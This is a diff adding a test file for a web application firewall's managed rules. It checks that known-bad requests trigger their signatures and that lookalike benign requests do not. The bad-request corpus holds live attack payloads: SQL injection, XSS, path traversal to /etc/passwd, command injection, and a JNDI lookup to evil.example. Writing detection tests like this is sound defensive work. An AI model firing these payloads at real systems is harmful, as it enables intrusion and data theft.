@@ -0,0 +1,179 @@
+/*
+ * =============================================================================
+ * FILE: test/managed-rules.test.js
+ *
+ * DESCRIPTION:
+ * The managed ruleset's corpus: known-bad requests, at least one per
+ * signature ID, and known-good requests that look close to an attack (an
+ * apostrophe in a name, `<` in JSON text, everyday user agents). Every bad
+ * request must trigger its signature in both anomaly and first-match mode,
+ * and no good request may trigger anything. Requests are built the way the
+ * worker builds them and flattened with `getRequestData`, so the corpus also
+ * covers how each target is collected.
+ *
+ * USAGE:
+ *     node --test test/
+ * =============================================================================
+ */
+
+import {test} from 'node:test';
+import assert from 'node:assert/strict';
+import {getRequestData} from '../src/utils.js';
+import {MANAGED_SIGNATURES, compileManagedRules, evaluateManagedRules, getManagedRulesConfigError} from '../src/managed-rules.js';
+
+const BROWSER_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
+
+/**
+ * Builds the worker's request payload. A body is only present for routes
+ * with body inspection, as in the worker.
+ */
+function buildRequest({path = '/', method = 'GET', headers = {}, body, contentType = 'application/json'}) {
+    const payload = {
+        url: `https://app.example.com${path}`,
+        method,
+        headers: {host: 'app.example.com', 'user-agent': BROWSER_UA, ...headers},
+        cf: {}
+    };
+    if (body !== undefined) {
+        const text = typeof body === 'string' ? body : JSON.stringify(body);
+        payload.headers['content-type'] = contentType;
+        payload.headers['content-length'] = String(text.length);
+        payload.body = {text, size: text.length, truncated: false};
+        payload.hasBody = true;
+    }
+    return getRequestData(payload);
+}
+
+// --- Known-bad requests: `expect` is the signature each must trigger ---
+const BAD_REQUESTS = [
+    {expect: 'WAFU-SQLI-001', request: {path: '/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users'}},
+    {expect: 'WAFU-SQLI-001', request: {path: '/products?id=1/**/union/**/all/**/select/**/1', method: 'GET'}},
+    {expect: 'WAFU-SQLI-002', request: {path: "/login?user=admin'%20OR%20'1'='1"}},
+    {expect: 'WAFU-SQLI-002', request: {method: 'POST', body: {username: "x') or 1=1"}}},
+    {expect: 'WAFU-SQLI-003', request: {path: "/login?user=admin'--%20"}},
+    {expect: 'WAFU-SQLI-003', request: {headers: {cookie: "session=abc'#"}}},
+    {expect: 'WAFU-SQLI-004', request: {path: '/search?q=1;%20DROP%20TABLE%20users'}},
+    {expect: 'WAFU-SQLI-004', request: {method: 'POST', body: 'q=x%3B%20delete%20from%20orders', contentType: 'application/x-www-form-urlencoded'}},
+    {expect: 'WAFU-SQLI-005', request: {path: '/item?id=1%20AND%20SLEEP(5)'}},
+    {expect: 'WAFU-SQLI-005', request: {path: "/item?id=1;%20WAITFOR%20DELAY%20'0:0:5'"}},
+    {expect: 'WAFU-SQLI-006', request: {path: '/item?id=1%20and%20(select%20count(*)%20from%20information_schema.tables)'}},
+    {expect: 'WAFU-SQLI-006', request: {method: 'POST', body: {q: "select load_file('/tmp/x')"}}},
+    {expect: 'WAFU-XSS-001', request: {path: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E'}},
+    {expect: 'WAFU-XSS-001', request: {headers: {referer: 'https://evil.example/<script src=//x>'}}},
+    {expect: 'WAFU-XSS-002', request: {path: '/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E'}},
+    {expect: 'WAFU-XSS-002', request: {method: 'POST', body: {bio: '<div onmouseover="steal()">hi</div>'}}},
+    {expect: 'WAFU-XSS-003', request: {path: '/redirect?to=javascript:alert(document.domain)'}},
+    {expect: 'WAFU-XSS-003', request: {method: 'POST', body: {link: 'javascript:void(fetch("//x"))'}}},
+    {expect: 'WAFU-XSS-004', request: {path: '/page?frame=%3Ciframe%20src=//evil.example%3E'}},
+    {expect: 'WAFU-XSS-004', request: {method: 'POST', body: {html: '<svg/onload=x>'}}},
+    {expect: 'WAFU-XSS-005', request: {path: '/search?q=prompt(1)'}},
+    {expect: 'WAFU-XSS-005', request: {headers: {referer: 'https://app.example.com/?x=document.cookie'}}},
+    {expect: 'WAFU-LFI-001', request: {path: '/download?file=../../etc/config'}},
+    {expect: 'WAFU-LFI-001', request: {path: '/static/%252e%252e%252fsecret.txt'}},
+    {expect: 'WAFU-LFI-002', request: {path: '/view?page=/etc/passwd'}},
+    {expect: 'WAFU-LFI-002', request: {method: 'POST', body: {template: 'C:\\Windows\\win.ini'}}},
+    {expect: 'WAFU-LFI-003', request: {path: '/download?file=report.pdf%00.png'}},
+    {expect: 'WAFU-RCE-001', request: {path: '/ping?host=127.0.0.1;cat%20/etc/hosts'}},
+    {expect: 'WAFU-RCE-001', request: {method: 'POST', body: {host: 'example.com && whoami'}}},
+    {expect: 'WAFU-RCE-001', request: {path: '/ping?host=$(id)'}},
+    {expect: 'WAFU-RCE-002', request: {headers: {'x-forwarded-for': '${jndi:ldap://evil.example/a}'}}},
+    {expect: 'WAFU-RCE-002', request: {path: '/run?cmd=cat${IFS}/etc/issue'}},
+    {expect: 'WAFU-SCAN-001', request: {headers: {'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)'}}},
+    {expect: 'WAFU-SCAN-001', request: {headers: {'user-agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'}}},
+    {expect: 'WAFU-SCAN-001', request: {headers: {'user-agent': 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'}}},
+];
+
+// --- Known-good requests that must not trigger any signature ---
+const GOOD_REQUESTS = [
+    {name: 'apostrophe in a name (query)', request: {path: "/customers?last_name=O'Brien&first_name=Se%C3%A1n"}},
+    {name: 'apostrophe in a name (JSON)', request: {method: 'POST', body: {name: "D'Angelo", note: "It's Tom's order, isn't it?"}}},
+    {name: 'apostrophe and hash in text', request: {method: 'POST', body: {review: "We're Tom's #1 fans - and we'd order again"}}},
+    {name: '< in JSON text', request: {method: 'POST', body: {formula: 'a < b && b > c', note: 'price <100 EUR', math: 'x<y'}}},
+    {name: 'prose about SQL', request: {method: 'POST', body: {message: 'Please select a union rep and update the table plan.'}}},
+    {name: 'search for everyday words', request: {path: '/search?q=union%20station%20cafe&sort=select'}},
+    {name: 'semicolons and ampersands in form data', request: {method: 'POST', body: 'a=1&b=fish%20%26%20chips%3B%20peas&c=cats', contentType: 'application/x-www-form-urlencoded'}},
+    {name: 'dotted file names', request: {path: '/assets/app.v1.2.3.min.js'}},
+    {name: 'relative-looking text', request: {path: '/docs?title=Chapter%20one...%20the%20end'}},
+    {name: 'JSON with markup-like arrows', request: {method: 'POST', body: {arrow: '<- back', html: 'use &lt;b&gt; for bold'}}},
+    {name: 'email with plus addressing', request: {path: '/subscribe?email=jane%2Bnews%40example.com'}},
+    {name: 'cookie with base64 session', request: {headers: {cookie: 'session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc; theme=dark'}}},
+    {name: 'referer with a query', request: {headers: {referer: 'https://www.google.com/search?q=wafu+docs&hl=en'}}},
+    {name: 'Chrome', request: {headers: {'user-agent': BROWSER_UA}}},
+    {name: 'Firefox', request: {headers: {'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'}}},
+    {name: 'Safari on iOS', request: {headers: {'user-agent': 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1'}}},
+    {name: 'curl', request: {headers: {'user-agent': 'curl/8.5.0'}}},
+    {name: 'Googlebot', request: {headers: {'user-agent': 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'}}},
+    {name: 'python-requests', request: {headers: {'user-agent': 'python-requests/2.31.0'}}},
+];
+
+const ALL_IDS = MANAGED_SIGNATURES.map(signature => signature.id);
+
+// Every signature scores on its own: the threshold is 1, so a match is never hidden by a low score.
+const anomalyRuleset = (config = {}) => compileManagedRules({enabled: true, mode: 'anomaly', anomaly_threshold: 1, ...config});
+const firstMatchRuleset = (config = {}) => compileManagedRules({enabled: true, mode: 'first_match', ...config});
+
+const matchedIds = (decision) => (decision?.managedMatches || []).map(match => match.id);
+
+test('the corpus covers every signature ID', () => {
+    const covered = new Set(BAD_REQUESTS.map(entry => entry.expect));
+    assert.deepEqual(ALL_IDS.filter(id => !covered.has(id)), []);
+});
+
+for (const [mode, buildRuleset] of [['anomaly', anomalyRuleset], ['first-match', firstMatchRuleset]]) {
+    for (const {expect, request} of BAD_REQUESTS) {
+        test(`${mode}: ${expect} matches ${JSON.stringify(request)}`, () => {
+            // With every other signature disabled, the expected one alone must catch the request.
+            const ruleset = buildRuleset({disabled_ids: ALL_IDS.filter(id => id !== expect)});
+            const decision = evaluateManagedRules(ruleset, buildRequest(request));
+            assert.equal(decision?.action, 'BLOCK');
+            assert.deepEqual(matchedIds(decision), [expect]);
+        });
+    }
+
+    for (const {name, request} of GOOD_REQUESTS) {
+        test(`${mode}: no false positive on ${name}`, () => {
+            const decision = evaluateManagedRules(buildRuleset(), buildRequest(request));
+            assert.equal(decision, null, `matched ${matchedIds(decision).join(', ')}`);
+        });
+    }
+}
+
+test('anomaly mode only acts once the total score reaches the threshold', () => {
+    const request = buildRequest({path: '/search?q=prompt(1)'}); // WAFU-XSS-005 alone scores 3.
+    assert.equal(evaluateManagedRules(compileManagedRules({enabled: true, mode: 'anomaly', anomaly_threshold: 5}), request), null);
+    const decision = evaluateManagedRules(compileManagedRules({enabled: true, mode: 'anomaly', anomaly_threshold: 3, action: 'CHALLENGE'}), request);
+    assert.equal(decision.action, 'CHALLENGE');
+    assert.equal(decision.matchedRuleId, 'managed-anomaly-score');
+    assert.equal(decision.anomalyScore, 3);
+});
+
+test('disabled signatures do not match', () => {
+    const request = buildRequest({headers: {'user-agent': 'sqlmap/1.7.2'}});
+    assert.equal(evaluateManagedRules(firstMatchRuleset({disabled_ids: ['WAFU-SCAN-001']}), request), null);
+});
+
+test('first-match mode uses the action override, and a LOG override does not end the search', () => {
+    const request = buildRequest({path: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', headers: {'user-agent': 'sqlmap/1.7.2'}});
+    const logged = evaluateManagedRules(firstMatchRuleset({disabled_ids: ['WAFU-XSS-001', 'WAFU-XSS-005'], overrides: {'WAFU-SCAN-001': {action: 'LOG'}}}), request);
+    assert.equal(logged.action, 'LOG');
+    assert.deepEqual(matchedIds(logged), ['WAFU-SCAN-001']);
+
+    const blocked = evaluateManagedRules(firstMatchRuleset({overrides: {'WAFU-XSS-001': {action: 'LOG'}}}), request);
+    assert.equal(blocked.action, 'BLOCK');
+    assert.equal(blocked.matchedRuleId, 'WAFU-XSS-005');
+    assert.deepEqual(matchedIds(blocked), ['WAFU-XSS-001', 'WAFU-XSS-005']);
+});
+
+test('score overrides apply in anomaly mode', () => {
+    const request = buildRequest({path: '/search?q=prompt(1)'});
+    const ruleset = compileManagedRules({enabled: true, mode: 'anomaly', anomaly_threshold: 5, overrides: {'WAFU-XSS-005': {score: 5}}});
+    assert.equal(evaluateManagedRules(ruleset, request).anomalyScore, 5);
+});
+
+test('config validation rejects malformed overrides with a message', () => {
+    assert.equal(getManagedRulesConfigError({overrides: {'WAFU-SQLI-001': null}}), 'The override for WAFU-SQLI-001 must be an object.');
+    assert.equal(getManagedRulesConfigError({overrides: {'WAFU-SQLI-001': 'LOG'}}), 'The override for WAFU-SQLI-001 must be an object.');
+    assert.match(getManagedRulesConfigError({overrides: {'WAFU-SQLI-001': {action: 'ALLOW'}}}), /must be one of/);
+    assert.match(getManagedRulesConfigError({overrides: {'942100': {}}}), /Unknown signature ID/);
+    assert.equal(getManagedRulesConfigError({mode: 'anomaly', overrides: {'WAFU-SQLI-001': {action: 'LOG', score: 2}}}), null);
+});